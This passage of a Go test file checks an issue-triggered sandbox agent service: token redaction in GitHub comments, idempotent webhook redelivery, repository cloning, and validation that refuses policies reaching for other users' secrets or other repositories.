				r.LogSeq, r.LogBytes, r.OutputNotStored = chunks[len(chunks)-1].seq, bytes, tt.gone
				if tt.cut != "" {
					r.LogCut, r.LogCutAt = tt.cut, &now
				}
			})
			if err != nil {
				t.Fatal(err)
			}
			if !tt.readable {
				h.svc.secrets = fakeSecrets{}
			}
			body, _ := h.svc.endedComment(ctx, tk)
			_, quoted, _ := strings.Cut(body, "The end of its output:\n\n```\n")
			quoted, _, _ = strings.Cut(quoted, "\n```\n")
			if quoted != tt.want {
				t.Errorf("quoted %q, want %q", quoted, tt.want)
			}
			for _, s := range tt.never {
				if strings.Contains(body, s) {
					t.Errorf("the comment holds %q:\n%s", s, body)
				}
			}
		})
	}
}

// The task's error is quoted with GitHub tokens hidden, reading no secret
// (the GitHub function writes comments too, and cannot read them): what it
// quotes of git's or the agent's words had the task's secrets hidden where
// it was written (TestAPullRequestErrorHidesTheTasksSecrets).
func TestTheCommentQuotesTheTasksErrorTokensHidden(t *testing.T) {
	token := "ghs_" + strings.Repeat("aB3", 12)
	tests := []struct {
		name, error, want string
		never             []string
	}{
		{"a GitHub token", "no pull request: the push was refused: remote: " + token, "remote: [REDACTED]", []string{token}},
		{"a token cut by the quote's end", "no pull request: " + strings.Repeat("x", 470) + " " + token, "x [REDACTED]…", []string{token[:12]}},
		{"sandstep's own words", "the task could not be started: Step Functions refused it", "the task could not be started: Step Functions refused it", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx := context.Background()
			h := issueHarness(t, nil)
			h.svc.repos = fakeRepos{"octo/hello": TaskInput{Command: "./agent.sh", TimeoutSeconds: intp(600),
				Sandbox: CreateSandboxInput{SecretEnv: map[string]string{"KEY": "ssm:/sandstep/secrets/users/github:octo/hello/key"}}}}
			h.svc.secrets = fakeSecrets{} // none can be read: none is asked for
			taskID := startedIssueTask(t, h)
			tk, err := h.store.TransitionTask(ctx, taskID, []sandstep.TaskStatus{sandstep.TaskQueued}, sandstep.TaskFailed, func(r *sandstep.Task) {
				r.Error = tt.error
			})
			if err != nil {
				t.Fatal(err)
			}
			body, _ := h.svc.endedComment(ctx, tk)
			if !strings.Contains(body, tt.want) {
				t.Errorf("the comment lacks %q:\n%s", tt.want, body)
			}
			for _, s := range tt.never {
				if strings.Contains(body, s) {
					t.Errorf("the comment holds %q:\n%s", s, body)
				}
			}
		})
	}
}

// startedIssueTask has "maintainer" label octo/hello's issue 3, and
// returns the id of the task that starts.
func startedIssueTask(t *testing.T, h *faultHarness) string {
	t.Helper()
	out, err := h.svc.HandleIssue(context.Background(), IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 3, Sender: "maintainer"})
	if err != nil || out.Action != "started" {
		t.Fatalf("HandleIssue = %+v, %v", out, err)
	}
	return out.TaskID
}

// A redelivery is answered as the first delivery was, whatever changed
// since; an ignored delivery is not remembered, so one sent again after
// the cause was mended is acted on.
func TestARedeliveryIsAnsweredAsTheFirstWas(t *testing.T) {
	task := TaskInput{Command: "./agent.sh", TimeoutSeconds: intp(600)}
	tests := []struct {
		name                  string
		before, after         fakeCollaborators
		reposBefore           fakeRepos
		wantFirst, wantSecond string
	}{
		{name: "started, then the sender's write taken away", before: fakeCollaborators{"maintainer": true}, after: fakeCollaborators{},
			wantFirst: "started", wantSecond: "started"},
		{name: "ignored, then write granted", before: fakeCollaborators{}, after: fakeCollaborators{"maintainer": true},
			wantFirst: "ignored", wantSecond: "started"},
		{name: "ignored for the document, then listed", before: fakeCollaborators{"maintainer": true}, after: fakeCollaborators{"maintainer": true},
			reposBefore: fakeRepos{}, wantFirst: "ignored", wantSecond: "started"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx := context.Background()
			h := issueHarness(t, nil)
			ev := IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 3, Sender: "maintainer"}
			listed := fakeRepos{"octo/hello": task}
			h.svc.repos, h.svc.collaborators = listed, tt.before
			if tt.reposBefore != nil {
				h.svc.repos = tt.reposBefore
			}
			first, err := h.svc.HandleIssue(ctx, ev)
			if err != nil {
				t.Fatal(err)
			}
			h.svc.repos, h.svc.collaborators = listed, tt.after
			again, err := h.svc.HandleIssue(ctx, ev)
			if err != nil {
				t.Fatal(err)
			}
			if first.Action != tt.wantFirst || again.Action != tt.wantSecond {
				t.Fatalf("answered %+v, then %+v; want %s, then %s", first, again, tt.wantFirst, tt.wantSecond)
			}
			if first.Action == "started" && *again != *first {
				t.Errorf("the redelivery answered %+v, the first %+v", again, first)
			}
		})
	}
}

// An issue's task clones the issue's repository, whatever its policy's
// task holds: the push token and the pull request follow the clone.
func TestIssueSpecClonesTheIssuesRepository(t *testing.T) {
	ev := IssueEvent{Repo: "octo/hello", Issue: 3, CloneURL: "https://github.com/octo/hello.git", DefaultBranch: "main"}
	tests := []struct {
		name string
		git  *GitSource
		ev   IssueEvent
		want *GitSource
	}{
		{name: "none named", ev: ev, want: &GitSource{URL: ev.CloneURL, Branch: "main"}},
		{name: "another named", git: &GitSource{URL: "https://git.example.net/someone/else.git", Branch: "develop"}, ev: ev, want: &GitSource{URL: ev.CloneURL, Branch: "main"}},
		{name: "a delivery without a clone URL", git: &GitSource{URL: "https://git.example.net/someone/else.git"}, ev: IssueEvent{Repo: "octo/hello", Issue: 3}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			spec := TaskInput{Command: "./agent.sh", Sandbox: CreateSandboxInput{Git: tt.git}}
			if err := issueSpec(&spec, tt.ev); err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(spec.Sandbox.Git, tt.want) {
				t.Errorf("clones %+v, want %+v", spec.Sandbox.Git, tt.want)
			}
		})
	}
}

// A repository's task no issue could start (here, resources beside a
// snapshot) fails New, naming the field, rather than every delivery; the
// check changes nothing of the policy's task.
func TestNewChecksTheRepositoriesTasks(t *testing.T) {
	cpu := &sandstep.Resources{CPU: 4, MemoryGiB: 8}
	tests := []struct {
		name      string
		task      TaskInput
		wantField string // "" when New accepts it
	}{
		{name: "a command", task: TaskInput{Command: "./agent.sh", TimeoutSeconds: intp(600)}},
		{name: "a snapshot", task: TaskInput{Command: "./agent.sh", Sandbox: CreateSandboxInput{Snapshot: "agent-runtime"}, Artifacts: []string{"out/report.md"}}},
		{name: "resources with an image", task: TaskInput{Command: "./agent.sh", Sandbox: CreateSandboxInput{Image: "ubuntu:24.04", Resources: cpu}}},
		{name: "resources with a snapshot", task: TaskInput{Command: "./agent.sh", Sandbox: CreateSandboxInput{Snapshot: "agent-runtime", Resources: cpu}}, wantField: "sandbox.resources"},
		{name: "too long", task: TaskInput{Command: "./agent.sh", TimeoutSeconds: intp(1 << 30)}, wantField: "timeoutSeconds"},
		{name: "the repository's secret", task: TaskInput{Command: "./agent.sh", Sandbox: CreateSandboxInput{SecretEnv: map[string]string{"T": "ssm:/sandstep/secrets/users/github:octo/hello/token"}}}},
		{name: "a user's secret", task: TaskInput{Command: "./agent.sh", Sandbox: CreateSandboxInput{SecretEnv: map[string]string{"T": "ssm:/sandstep/secrets/users/alice/token"}}}, wantField: "sandbox.secretEnv.T"},
		{name: "another repository to clone", task: TaskInput{Command: "./agent.sh", Sandbox: CreateSandboxInput{Git: &GitSource{URL: "https://git.example.net/someone/else.git", Branch: "develop"}}}, wantField: "sandbox.git"},
		{name: "its own repository with a token", task: TaskInput{Command: "./agent.sh", Sandbox: CreateSandboxInput{Git: &GitSource{URL: "https://github.com/octo/hello.git", TokenSecret: "ssm:/sandstep/secrets/users/github:octo/hello/gh"}}}, wantField: "sandbox.git"},
		{name: "a user's secret to sign the notice", task: TaskInput{Command: "./agent.sh", Notify: &NotifyInput{URL: "https://hooks.example.com/done", SecretRef: "ssm:/sandstep/secrets/users/alice/hook"}}, wantField: "notify.secretRef"},
		{name: "its own files, and the issue's", task: TaskInput{Command: "./agent.sh", Sandbox: CreateSandboxInput{Files: append(make([]File, 0, 4), File{Path: "notes.txt"})}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newFaultHarness(t, 5)
			repos := fakeRepos{"octo/hello": tt.task}
			_, err := New(Deps{Provider: h.svc.provider, Sandboxes: h.store, Quota: h.store, Idempotency: h.store, Audit: h.store, Repositories: repos, Secrets: fakeSecrets{}, Notifier: &fakeNotifier{}},
				Options{Limits: testLimits(), Deployment: fixedDeployment(testDeployment)})
			if got := sandstep.ErrorField(err); got != tt.wantField || (err != nil) != (tt.wantField != "") {
				t.Fatalf("New = %v, want the field %q refused", err, tt.wantField)
			}
			if files := repos["octo/hello"].Sandbox.Files; len(files) > 0 && files[:cap(files)][len(files)].Path != "" {
				t.Error("the check wrote the issue's file into the policy's task")
			}
		})
	}
}
